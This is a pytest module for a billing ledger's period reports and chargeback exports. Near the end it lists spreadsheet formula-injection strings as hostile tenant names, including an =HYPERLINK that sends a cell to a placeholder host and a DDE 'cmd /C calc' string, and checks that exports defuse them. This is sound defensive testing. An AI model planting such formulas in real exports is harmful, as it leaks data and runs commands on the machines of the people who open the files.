"""Periods, reports and exports against an independent book and hostile input.

A month of traffic (settled, overrun, voided, expired, late-settled after expiry,
degraded, open and denied permits over four tenants) is written through the
writer's path (``parse_entry`` + ``write_batch``), with periods closed between
arrivals. ``tests.adversarial.period_book`` keeps its own books with plain
integers; the report and both exports must agree with them to the micro-dollar.
"""

from __future__ import annotations

import csv
import io
import json
import pathlib
import random
from collections import defaultdict
from collections.abc import Iterator
from decimal import ROUND_HALF_EVEN, Decimal

import pytest

from keel_pdp.cli import main
from keel_pdp.ledger.events import parse_entry
from keel_pdp.ledger.export import chargeback_rows, export
from keel_pdp.ledger.mapping import CostMapping
from keel_pdp.ledger.periods import PeriodError
from keel_pdp.ledger.report import build_report, render
from keel_pdp.ledger.store import LedgerStore
from tests.adversarial.period_book import (
    PICO,
    Entry,
    Month,
    Permit,
    following,
    month_start_ms,
    period_name,
    pid,
    random_month,
)
from tests.integration.pg_fixture import pg_server, pg_url

__all__ = ["pg_server", "pg_url"]

DAY = 86_400_000
MAR, APR, MAY, JUN = (month_start_ms(2026, m) for m in (3, 4, 5, 6))


@pytest.fixture(params=["sqlite", "postgresql"])
def store(request: pytest.FixtureRequest, tmp_path: pathlib.Path) -> Iterator[LedgerStore]:
    url = (f"sqlite:///{tmp_path}/ledger.db" if request.param == "sqlite"
           else str(request.getfixturevalue("pg_url")))
    s = LedgerStore(url)
    s.migrate()
    yield s
    s.close()


@pytest.fixture
def sqlite_store(tmp_path: pathlib.Path) -> LedgerStore:
    s = LedgerStore(f"sqlite:///{tmp_path}/ledger.db")
    s.migrate()
    return s


def cli(args: list[str]) -> int:
    """``keel-pdp`` as a shell runs it: argparse's refusals exit 2."""
    try:
        return main(args)
    except SystemExit as exc:
        return int(exc.code or 0)


def half_even_micros(pico: int) -> int:
    return int((Decimal(pico) / PICO).to_integral_value(rounding=ROUND_HALF_EVEN))


def usd(micros: int) -> Decimal:
    return Decimal(micros) / 1_000_000


def write(store: LedgerStore, entries: list[Entry], until: int | None = None) -> list[Entry]:
    """Store the entries that arrive before ``until`` (all when None), in arrival
    order, each at its arrival time; returns the rest."""
    due = sorted((e for e in entries if until is None or e.arrives_ms < until),
                 key=lambda e: e.arrives_ms)
    for e in due:
        store.write_batch([parse_entry(e.event_id, e.fields)], at_ms=e.arrives_ms)
    return [e for e in entries if e not in due]


def booked_in(entries: list[Entry], closes: dict[str, int]) -> dict[str, list[Entry]]:
    """Where each entry must be booked: its own period, or the next one not closed
    when it arrived."""
    out: dict[str, list[Entry]] = defaultdict(list)
    for e in entries:
        p = e.belongs_to
        while p in closes and closes[p] <= e.arrives_ms:
            p = following(p)
        out[p].append(e)
    return out


def chargeback(store: LedgerStore, period: str, by: list[str]) -> list[dict[str, str]]:
    header, rows = chargeback_rows(store, period, CostMapping(), by)
    return [dict(zip(header, r, strict=True)) for r in rows]


# ------------------------------------------------------------------ a month
def test_a_month_reports_and_exports_what_an_independent_book_says(
        store: LedgerStore) -> None:
    month = random_month(random.Random(20260301), 2026, 3, 300)
    write(store, month.entries)
    report = build_report(store, "2026-03", ["tenant"], as_of_ms=APR)
    cost_pico: dict[str, int] = defaultdict(int)
    booked: dict[str, int] = defaultdict(int)
    for p in month.permits:
        cost_pico[p.tenant] += p.final_exact_pico()
        booked[p.tenant] += p.final_booked()
    assert sorted(t for (t,) in report.groups) == sorted(cost_pico)
    for (tenant,), f in report.groups.items():
        assert f.booked_micros == booked[tenant], tenant
        assert f.cost_line_micros == half_even_micros(cost_pico[tenant]), tenant
        assert f.booked_line_micros == half_even_micros(cost_pico[tenant]), tenant
        mine = [p for p in month.permits if p.tenant == tenant]
        assert f.permits == sum(p.fate != "denied" for p in mine)
        assert f.denials == sum(p.fate == "denied" for p in mine)
        assert f.open_permits == sum(p.fate == "open" for p in mine)
        assert f.forecast_micros == sum(p.held for p in mine if p.fate != "denied")
    assert report.total.cost_line_micros == half_even_micros(sum(cost_pico.values()))
    # The chargeback export by tenant: one usage row per tenant, the same line.
    rows = chargeback(store, "2026-03", ["tenant"])
    assert {r["tenant"]: Decimal(r["charge_usd"]) for r in rows} == {
        t: usd(half_even_micros(v)) for t, v in cost_pico.items()}
    # By tenant and workload: each row is its own exact sum rounded once.
    by_tw: dict[tuple[str, str], int] = defaultdict(int)
    for p in month.permits:
        by_tw[(p.tenant, p.workload)] += p.final_exact_pico()
    rows = chargeback(store, "2026-03", ["tenant", "workload"])
    assert {(r["tenant"], r["workload"]): Decimal(r["charge_usd"]) for r in rows} == {
        k: usd(half_even_micros(v)) for k, v in by_tw.items()}
    assert all(r["charge_type"] == "usage" and r["charge_period"] == "2026-03" for r in rows)


# -------------------------------------------------- late actuals, two closes
def late_month() -> tuple[Month, dict[str, Permit]]:
    m = Month()
    p = {
        # issued in the last millisecond of March, settled after March and April closed
        "edge": m.add(Permit(pid(APR - 1, 1), "acme", "chat", APR - 1, 1000, 1000, "settled",
                             700 * PICO + 1), settle_at=JUN + 5 * DAY),
        # issued in the first millisecond of April: April's
        "april": m.add(Permit(pid(APR, 2), "acme", "chat", APR, 2000, 2000, "overrun",
                              2500 * PICO), settle_at=APR + DAY),
        # expired in March, its actual arrives after March closed
        "expired": m.add(Permit(pid(MAR + 5, 3), "globex", "chat", MAR + 5, 3000, 3000,
                                "expired_late", 3100 * PICO - 7), settle_at=MAY + 3 * DAY),
        # settled on time in March
        "ontime": m.add(Permit(pid(MAR + DAY, 4), "globex", "search", MAR + DAY, 500, 500,
                               "settled", 400 * PICO)),
        # voided after March closed: the release is late too
        "void": m.add(Permit(pid(MAR + 2 * DAY, 5), "initech", "chat", MAR + 2 * DAY, 900, 900,
                             "voided", 0), settle_at=APR + 10 * DAY),
    }
    return m, p


def test_late_actuals_after_one_and_two_closes_are_booked_once_naming_their_period(
        store: LedgerStore, tmp_path: pathlib.Path) -> None:
    month, p = late_month()
    closes = {"2026-03": APR + 2 * DAY, "2026-04": MAY + 2 * DAY, "2026-05": JUN + 2 * DAY}
    rest = write(store, month.entries, closes["2026-03"])
    store.transition("2026-03", "closed", at_ms=closes["2026-03"])
    march_before = tmp_path / "march-1.csv"
    export(store, "2026-03", "csv", str(march_before))
    rest = write(store, rest, closes["2026-04"])
    store.transition("2026-04", "closed", at_ms=closes["2026-04"])
    rest = write(store, rest, closes["2026-05"])
    store.transition("2026-05", "closed", at_ms=closes["2026-05"])
    assert write(store, rest) == []

    expected = booked_in(month.entries, closes)
    assert p["edge"].period == "2026-03" and p["april"].period == "2026-04"
    rows = store.query("SELECT period, belongs_to, amount_micros FROM ledger_entries")
    got: dict[tuple[str, str], int] = defaultdict(int)
    for period, belongs, amount in rows:
        got[(str(period), str(belongs))] += int(amount)
    want: dict[tuple[str, str], int] = defaultdict(int)
    for period, entries in expected.items():
        for e in entries:
            want[(period, e.belongs_to)] += e.micros
    assert dict(got) == dict(want)
    # The late actual after two closes: in June, naming March, once.
    assert want[("2026-06", "2026-03")] == p["edge"].act - p["edge"].held == -299
    # The closed period's books never moved: the same export, byte for byte.
    march_after = tmp_path / "march-2.csv"
    export(store, "2026-03", "csv", str(march_after))
    assert march_before.read_bytes() == march_after.read_bytes()
    # Every permit's entries, wherever booked, add up to what it cost.
    per_permit: dict[str, int] = defaultdict(int)
    for pid_, amount in store.query("SELECT permit_id, amount_micros FROM ledger_entries"):
        per_permit[str(pid_)] += int(amount)
    assert per_permit == {x.pid: x.final_booked() for x in month.permits}
    # March's report still tells the whole story: cost includes what was booked later.
    march = build_report(store, "2026-03", ["tenant"], as_of_ms=JUN + 9 * DAY).total
    march_perms = [x for x in month.permits if x.period == "2026-03"]
    assert march.cost_line_micros == half_even_micros(
        sum(x.final_exact_pico() for x in march_perms))
    late_pico = sum(e.exact_pico for per, es in expected.items() if per != "2026-03"
                    for e in es if e.belongs_to == "2026-03")
    assert march.late_out_line_micros == half_even_micros(late_pico)
    # Each later period's chargeback shows the late amounts as `late` rows naming March.
    for period in ("2026-04", "2026-05", "2026-06"):
        late = [e for e in expected[period] if e.belongs_to == "2026-03"]
        rows_ = [r for r in chargeback(store, period, ["tenant"]) if r["charge_type"] == "late"]
        assert all(r["charge_period"] == "2026-03" for r in rows_)
        assert sum(Decimal(r["charge_usd"]) for r in rows_) == sum(
            (usd(half_even_micros(sum(e.exact_pico for e in late if e.permit
                                      and e.permit.tenant == t)))
             for t in {e.permit.tenant for e in late if e.permit}), Decimal(0))


def test_a_tenant_clock_does_not_move_a_permit_across_the_utc_month_line(
        sqlite_store: LedgerStore) -> None:
    # 23:30 on 31 March in New York (UTC-4 in DST) is 03:30 on 1 April UTC: April's.
    m = Month()
    ny = m.add(Permit(pid(APR + 3 * 3_600_000 + 30 * 60_000, 1), "ny-tenant", "chat",
                      APR + 3 * 3_600_000 + 30 * 60_000, 100, 100, "settled", 90 * PICO))
    # 08:59 on 1 April in Tokyo (UTC+9) is 23:59 on 31 March UTC: March's.
    tk = m.add(Permit(pid(APR - 60_000, 2), "tokyo-tenant", "chat", APR - 60_000, 100, 100,
                      "settled", 80 * PICO), settle_at=APR + 60_000)
    write(sqlite_store, m.entries)
    assert period_name(ny.issued_ms) == "2026-04" and period_name(tk.issued_ms) == "2026-03"
    march = build_report(sqlite_store, "2026-03", ["tenant"], as_of_ms=MAY).groups
    april = build_report(sqlite_store, "2026-04", ["tenant"], as_of_ms=MAY).groups
    assert list(march) == [("tokyo-tenant",)] and march[("tokyo-tenant",)].cost_micros == 80
    assert list(april) == [("ny-tenant",)] and april[("ny-tenant",)].cost_micros == 90


# ---------------------------------------------------------------- close rules
def test_close_refuses_what_finance_must_not_do(sqlite_store: LedgerStore) -> None:
    s = sqlite_store
    with pytest.raises(PeriodError, match="has not ended"):
        s.transition("2026-04", "closed", at_ms=APR + DAY)        # the current period
    with pytest.raises(PeriodError, match="has not ended"):
        s.transition("2026-06", "closing", at_ms=APR + DAY)       # a future one
    with pytest.raises(PeriodError, match="only move to closing or closed"):
        s.transition("2026-03", "open", at_ms=APR + DAY)          # reopening
    s.transition("2026-03", "closing", at_ms=APR + DAY)
    s.transition("2026-03", "closed", at_ms=APR + DAY)
    for to in ("closed", "closing"):                             # twice; backwards
        with pytest.raises(PeriodError, match="is closed"):
            s.transition("2026-03", to, at_ms=APR + 2 * DAY)
    assert [(a, b) for a, b, *_ in s.transitions("2026-03")] == [
        ("open", "closing"), ("closing", "closed")]


# ------------------------------------------------------- hostile period names
@pytest.mark.parametrize("text", [
    "2026-03\n",                 # a line read from a file, newline kept
    "\uff12\uff10\uff12\uff16-03",  # 2026 in full-width digits
    "\u0662\u0660\u0662\u0666-03",  # 2026 in Arabic-Indic digits
    "0000-01", "2026-13", "2026-00", "26-03", " 2026-03",
])
def test_a_period_that_is_not_an_ascii_yyyy_mm_books_nothing(
        sqlite_store: LedgerStore, text: str, capsys: pytest.CaptureFixture[str]) -> None:
    url = sqlite_store.url
    code = cli(["ledger", "period", "adjust", "--store", url, "--period", text,
                 "--amount-usd", "12.50", "--tenant", "acme", "--reason", "credit"])
    assert code == 2
    assert "YYYY-MM" in capsys.readouterr().err
    assert cli(["ledger", "period", "close", "--store", url, "--period", text]) == 2
    with pytest.raises(PeriodError):
        sqlite_store.manual_adjustment(key="k", belongs_to=text, amount_micros=1,
                                       tenant="acme", reason="credit", actor="t")
    assert sqlite_store.query("SELECT COUNT(*) FROM ledger_entries")[0][0] == 0
    assert sqlite_store.periods() == {}


def test_the_last_and_first_periods_have_bounds_and_report(
        sqlite_store: LedgerStore, capsys: pytest.CaptureFixture[str]) -> None:
    url = sqlite_store.url
    for period in ("9999-12", "0001-01"):
        assert main(["ledger", "report", "--store", url, "--period", period,
                     "--format", "json"]) == 0
        doc = json.loads(capsys.readouterr().out)
        assert doc["period"] == period and doc["total"]["cost_usd"] == "0.000000"
    # An event dated in December 9999 is accepted by the writer; its period reports.
    last = month_start_ms(9999, 12)
    m = Month()
    m.add(Permit(pid(last, 1), "acme", "chat", last, 10, 10, "settled", 7 * PICO))
    write(sqlite_store, m.entries)
    assert build_report(sqlite_store, "9999-12", ["tenant"], as_of_ms=last).total.cost_micros == 7


def test_an_adjustment_key_reused_for_another_adjustment_books_nothing_and_says_so(
        sqlite_store: LedgerStore, capsys: pytest.CaptureFixture[str]) -> None:
    url = sqlite_store.url
    first = ["ledger", "period", "adjust", "--store", url, "--period", "2026-03",
             "--amount-usd", "-12.50", "--tenant", "acme", "--reason", "provider credit",
             "--key", "INV-7"]
    assert main(first) == 0
    assert main(first) == 0                      # a retry: answered with the same entry
    out = capsys.readouterr().out.splitlines()
    assert out[0] == out[1] == "entry 1: -12.500000 USD for 2026-03 booked in 2026-03"
    other = [*first[:7], "--amount-usd", "-99.00", "--tenant", "globex", "--reason", "x",
             "--key", "INV-7"]
    assert main(other) == 1
    err = capsys.readouterr()
    assert "already used by entry 1" in err.err and "booked in" not in err.out
    assert sqlite_store.query("SELECT tenant, amount_micros FROM ledger_entries") == [
        ("acme", -12_500_000)]


# ----------------------------------------------------------- hostile names
HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(A1:A9)", "\tdata", "a,b", "say \"hi\"", "two\nlines", "plain"]


def test_exports_keep_hostile_names_as_text_and_are_stable(
        sqlite_store: LedgerStore, tmp_path: pathlib.Path) -> None:
    m = Month()
    for i, name in enumerate(HOSTILE):
        at = MAR + (i + 1) * DAY
        m.add(Permit(pid(at, i), name, name, at, 1000, 1000, "settled", (500 + i) * PICO))
    m.add(Permit(pid(MAR + DAY, 99), "acme", "chat", MAR + DAY, 1000, 1000, "settled",
                 400 * PICO))
    write(sqlite_store, m.entries)
    sqlite_store.manual_adjustment(key="neg", belongs_to="2026-03", amount_micros=-2_500_000,
                                   tenant="acme", reason="=credit", actor="t")
    texts = []
    for fmt in ("csv", "focus"):
        one, two = tmp_path / f"{fmt}-1.csv", tmp_path / f"{fmt}-2.csv"
        export(sqlite_store, "2026-03", fmt, str(one))
        export(sqlite_store, "2026-03", fmt, str(two))
        assert one.read_bytes() == two.read_bytes()
        texts.append(one.read_text(encoding="utf-8"))
    report_csv = render(build_report(sqlite_store, "2026-03", ["tenant", "workload"],
                                     as_of_ms=APR), "csv")
    for text in [*texts, report_csv]:
        cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
        # No cell a spreadsheet would run as a formula, unless it is a plain number.
        for c in cells:
            if c[:1] in ("=", "+", "-", "@", "\t", "\r"):
                Decimal(c)
        # Names with commas, quotes and newlines come back whole.
        for name in ("a,b", "say \"hi\"", "two\nlines", "plain"):
            assert name in cells
        for name in HOSTILE[:5]:
            assert "'" + name in cells
    rows = list(csv.DictReader(io.StringIO(texts[0])))
    # The negative adjustment stays a number finance can sum.
    assert "-2.500000" in {r["charge_usd"] for r in rows}
    total = sum((Decimal(r["charge_usd"]) for r in rows), Decimal(0))
    assert total == usd(sum(500 + i for i in range(len(HOSTILE))) + 400 - 2_500_000)
    charges = {r["tenant"]: Decimal(r["charge_usd"]) for r in rows if r["charge_type"] == "usage"}
    assert charges["'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")"] == usd(500)


# ------------------------------------------------------------ many tiny lines
def test_ten_thousand_tiny_settlements_round_once_per_line(sqlite_store: LedgerStore) -> None:
    # 10,000 embeddings at 0.3 micro-USD each, over 4 tenants: booked at 1 micro-USD
    # each (rounded up), reported and exported at the exact sum rounded once.
    rng = random.Random(10_000)
    m = Month()
    exact: dict[str, int] = defaultdict(int)
    for i in range(10_000):
        at = MAR + rng.randrange(0, 28 * DAY)
        tenant = f"t{i % 4}"
        x = m.add(Permit(pid(at, i), tenant, "embed", at, 1, 1, "settled", 300_000))
        exact[tenant] += x.exact_pico
    events = [parse_entry(e.event_id, e.fields) for e in m.entries]
    for i in range(0, len(events), 2000):
        sqlite_store.write_batch(events[i:i + 2000], at_ms=APR)
    report = build_report(sqlite_store, "2026-03", ["tenant"], as_of_ms=APR)
    assert {t: f.booked_micros for (t,), f in report.groups.items()} == {
        t: 2500 for t in exact}
    assert {t: f.cost_line_micros for (t,), f in report.groups.items()} == {
        t: half_even_micros(v) for t, v in exact.items()} == {t: 750 for t in exact}
    rows = chargeback(sqlite_store, "2026-03", ["tenant"])
    assert {r["tenant"]: Decimal(r["charge_usd"]) for r in rows} == {
        t: usd(750) for t in exact}
    assert report.total.cost_line_micros == 3000
